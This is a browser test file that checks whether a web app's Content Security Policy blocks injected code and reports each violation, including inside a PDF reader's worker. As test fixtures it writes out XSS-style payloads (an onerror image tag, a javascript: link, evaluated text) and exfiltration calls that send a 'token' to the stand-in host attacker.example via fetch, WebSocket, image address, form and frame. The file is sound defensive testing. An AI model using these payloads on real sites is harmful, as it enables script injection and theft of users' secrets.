/** The content policy of the app as delivered: injected code does nothing, and the browser reports each attempt and nothing else. */
import { test } from "uvu";
import * as assert from "uvu/assert";
import { newCustomer } from "../backend/newCustomer.ts";
import { openPages } from "../support/pages.ts";
import { poll } from "../support/poll.ts";
import { takeReports, type Watching, wasHacked, watchful } from "./watchful.ts";

const pages = await openPages(test);

const attempts: { name: string; forbids: string; run: () => unknown }[] = [];

/** What an injected script or markup might do, and the directive that blocks it. */
const attempt = (name: string, forbids: string, run: () => unknown) => attempts.push({ name, forbids, run });

attempt("an inline script", "require-trusted-types-for", () => {
  const script = document.createElement("script");
  script.textContent = "globalThis.hacked = true";
  document.body.append(script);
});
attempt("an inline script, assembled from text nodes", "require-trusted-types-for", () => {
  const script = document.createElement("script");
  script.append("globalThis.hacked = true");
  document.body.append(script);
});
attempt("a script of another origin", "require-trusted-types-for", () => {
  const script = document.createElement("script");
  script.src = "https://attacker.example/x.js";
  document.body.append(script);
});
attempt("markup with a handler", "require-trusted-types-for", () => {
  document.body.innerHTML = '<img src="x" onerror="globalThis.hacked = true">';
});
attempt("an inline handler", "require-trusted-types-for", () => {
  const button = document.createElement("button");
  button.setAttribute("onclick", "globalThis.hacked = true");
  button.click();
});
attempt("a javascript: link", "script-src-elem", () => {
  const link = document.createElement("a");
  link.href = "javascript:globalThis.hacked=true";
  document.body.append(link);
  link.click();
});
// In a task of its own, because code evaluated by the driver is exempt from the policy.
attempt(
  "evaluated text",
  "require-trusted-types-for",
  () => void setTimeout(() => new Function("globalThis.hacked = true")()),
);
attempt("a policy of its own", "trusted-types", () => {
  const page = window as unknown as {
    trustedTypes: { createPolicy(name: string, rules: object): unknown };
  };
  page.trustedTypes.createPolicy("attacker", { createHTML: (text: string) => text });
});
attempt("another worker", "require-trusted-types-for", () => new Worker("/assets/other.js"));
attempt("sending secrets away", "connect-src", () => fetch("https://attacker.example/?token"));
attempt(
  "sending secrets away through a socket",
  "connect-src",
  () => new WebSocket("wss://attacker.example/"),
);
attempt("sending secrets away in a picture's address", "img-src", () => {
  new Image().src = "https://attacker.example/?token";
});
attempt("a form that leads away", "form-action", () => {
  const form = document.createElement("form");
  form.action = "https://attacker.example/";
  document.body.append(form);
  form.submit();
});
attempt("a foreign frame", "frame-src", () => {
  const frame = document.createElement("iframe");
  frame.src = "https://attacker.example/";
  document.body.append(frame);
});
attempt("another base address", "base-uri", () => {
  const base = document.createElement("base");
  base.href = "https://attacker.example/";
  document.head.append(base);
});
attempt("a foreign stylesheet", "style-src-elem", () => {
  const link = document.createElement("link");
  link.rel = "stylesheet";
  link.href = "https://attacker.example/x.css";
  document.head.append(link);
});

test("injected code neither runs nor sends anything, also after the narrowed policy's element is removed", async () => {
  const { page } = await watchful(pages);
  await page.goto("/auth/login");
  // The policy is narrowed before the first request to an address from config.json.
  await page.waitForFunction(
    () => document.querySelectorAll("meta[http-equiv=Content-Security-Policy]").length > 1,
  );
  assert.equal(await takeReports(page), [], "starting the app violates nothing");
  const reported: Record<string, readonly string[]> = {};
  for (const { name, run } of attempts) {
    await page.evaluate(run).catch(() => {}); // blocked calls may throw
    // Another process refuses a frame's address, so its report comes at any time.
    await page.waitForFunction(() => ((globalThis as Watching).reports?.length ?? 0) > 0);
    reported[name] = await takeReports(page);
    assert.not(await wasHacked(page), name);
    assert.is(new URL(page.url()).pathname, "/auth/login", name);
  }
  assert.equal(reported, Object.fromEntries(attempts.map(({ name, forbids }) => [name, [forbids]])));
  await page.evaluate(() => {
    for (const policy of document.querySelectorAll("meta[http-equiv]")) policy.remove();
    return fetch("https://attacker.example/").catch(() => {});
  });
  assert.equal(await takeReports(page), ["connect-src"]);
});

test("code that a PDF gets to run in its reader evaluates nothing and sends nothing away", async () => {
  const { email } = await newCustomer(pages.backend);
  const { page } = await watchful(pages, email);
  const starts = page.waitForEvent("worker", (worker) => worker.url().endsWith("/worker.js"));
  await page.goto("/customer/avv");
  const reader = await starts;
  await page.getByRole("figure", { name: "Seite 1 von" }).locator("canvas").waitFor();
  await reader.evaluate(() => {
    const reports: string[] = [];
    Object.assign(globalThis, { reports });
    addEventListener("securitypolicyviolation", ({ effectiveDirective }) => reports.push(effectiveDirective));
    void fetch("https://attacker.example/?token").catch(() => {});
    // In a task of its own, as above.
    setTimeout(() => new Function("")());
  });
  const reports = () => reader.evaluate(() => (globalThis as Watching).reports?.sort().join());
  await poll(async () => (await reports()) === "connect-src,script-src", "a report of each");
});

test.run();
